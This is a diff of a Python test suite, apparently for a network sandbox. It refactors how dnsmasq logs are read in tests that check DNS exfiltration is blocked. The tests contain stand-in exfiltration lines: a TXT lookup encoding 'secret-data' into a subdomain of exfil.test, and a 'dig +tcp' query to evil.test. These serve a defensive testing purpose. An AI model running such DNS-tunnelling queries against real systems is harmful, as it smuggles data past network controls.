@@ -201,15 +201,10 @@ print(" ".join(out))
                           f"{marker}.secret-data.exfil.test"])
         (d,) = r.of("dns", qtype="TXT")
         self.assertEqual(d["rcode"], "NXDOMAIN")
-        log = self.dns.proc  # dnsmasq logs queries to its stderr pipe
-        time.sleep(0.2)
         self.assertNotIn(marker, self.dnsmasq_log())
 
     def dnsmasq_log(self):
-        # Ask dnsmasq for a name it will log, then read what it logged so far.
-        os.set_blocking(self.dns.proc.stderr.fileno(), False)
-        data = self.dns.proc.stderr.read() or b""
-        return data.decode(errors="replace")
+        return self.dns.take_log()
 
     def test_dns_over_tcp_gated(self):
         r = self.enforce(["sh", "-c", "dig +tcp +time=2 +tries=1 @127.0.53.1 evil.test; "
